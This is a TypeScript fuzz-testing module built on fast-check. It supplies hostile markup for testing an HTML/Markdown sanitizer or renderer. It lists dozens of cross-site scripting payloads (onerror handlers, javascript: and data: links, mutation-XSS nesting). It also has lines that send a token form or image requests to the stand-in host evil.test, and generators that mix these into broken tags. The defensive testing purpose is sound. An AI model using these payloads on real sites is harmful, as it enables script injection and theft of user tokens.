import * as fc from 'fast-check';

/** Payloads that run, fetch or leave the page if a text is parsed as markup. */
export const HOSTILE: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.test"><input name=token></form>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<object data="javascript:alert(1)"></object>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://evil.test/1)',
  '[x](file:///etc/passwd)',
  '[x](//evil.test)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.test/pixel.png)',
  '![x](x" onerror="alert(1))',
  '[![x](https://evil.test/p.png)](javascript:alert(1))',
  '[x](https://ok.test "t\\" onmouseover=\\"alert(1)")',
  '`<img src=x onerror=alert(1)>`',
  '    <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:1) | <script>1</script> |',
  '# <img src=x onerror=alert(1)>',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '<<img src=x onerror=alert(1)>>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '**<b onclick=alert(1)>x</b>**',
  'javascript:alert(1)',
  '<img srcset=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR="alert(1)">',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</span></p><img src=x onerror=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  '<iframe onload=alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style onload=alert(1)></style>',
  '<link rel=stylesheet href=x onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>',
  '<svg><set onbegin=alert(1) attributename=x dur=1s></set></svg>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<object data=x onerror=alert(1)></object>',
  '<embed src="javascript:alert(1)">',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '{{constructor.constructor("alert(1)")()}}',
];

const TAGS = (
  'script style template iframe object embed svg math img image video audio source link meta base form input button ' +
  'textarea select a b p div span ul li table tr td details summary marquee noscript title xmp plaintext frameset applet ' +
  'animate foreignObject mglyph br hr code pre h1 blockquote ScRiPt IMG A block-math-equation'
).split(' ');
const ATTRIBUTES = [
  'onerror=alert(1)',
  'onload="alert(1)"',
  "onclick='alert(1)'",
  'ONTOGGLE=alert(1) open',
  'onfocus=alert(1) autofocus',
  'href="javascript:alert(1)"',
  'href=" java&#10;script&colon;alert(1)"',
  'href="data:text/html,<script>alert(1)</script>"',
  'href="https://evil.test/a"',
  'src=https://evil.test/x.png',
  'src="javascript:alert(1)"',
  'srcset="https://evil.test/x.png 2x"',
  'srcdoc="<script>alert(1)</script>"',
  'style="background:url(https://evil.test/x)"',
  'http-equiv=refresh content="0;url=https://evil.test"',
  'xlink:href="javascript:alert(1)"',
  'formaction=javascript:alert(1)',
  'action="https://evil.test"',
  'class="admin" id=root',
  'data-type="mention" data-entitytype="javascript:alert(1)" data-fqn="x"',
  'data-type="file-attachment" data-filename="<img src=x onerror=alert(1)>"',
  'math_equation="<img src=x onerror=alert(1)>"',
  'alt="<svg onload=alert(1)>" title="\\"><script>alert(1)</script>"',
  'start="1e9" colspan="99999" rowspan="-1" type=checkbox checked data-checked=true',
  '"',
  "'",
  '=',
  '/',
  '<',
];

/** Tags whole and broken, of elements that run, fetch and leave the page, with their attributes. */
const hostileTag = fc
  .record({
    start: fc.constantFrom('<', '<', '<', '</', '< ', '<!', '<!--', '&lt;', '<<'),
    name: fc.constantFrom(...TAGS),
    attributes: fc.array(fc.constantFrom(...ATTRIBUTES), { maxLength: 3 }),
    gap: fc.constantFrom(' ', ' ', '/', '\n', '\t', ''),
    end: fc.constantFrom('>', '>', '>', '/>', ' >', '', '-->', '&gt;'),
  })
  .map(({ start, name, attributes, gap, end }) => [start + name, ...attributes].join(gap) + end);

const MARKDOWN =
  '\n|\n\n|\n    |> |- |1. |- [ ] |**|*|_|~~|`|```\n|[|](|)|![|](javascript:alert(1))|](https://evil.test)|\\|&#60;|&lt;|&amp;|<#E::table::a.b|'
    .split('|')
    .concat('|', '\n|---|\n', '[1]: javascript:alert(1)\n', '<#E::user::adam|[@adam](javascript:alert(1))>');

/** Texts of hostile authors: whole payloads, tags, Markdown and any characters, in any order and nesting. */
export const hostileMarkup: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: hostileTag },
      { weight: 2, arbitrary: fc.constantFrom(...MARKDOWN) },
      { weight: 1, arbitrary: fc.constantFrom(...HOSTILE) },
      { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
    ),
    { minLength: 1, maxLength: 10 },
  )
  .map((pieces) => pieces.join(''));
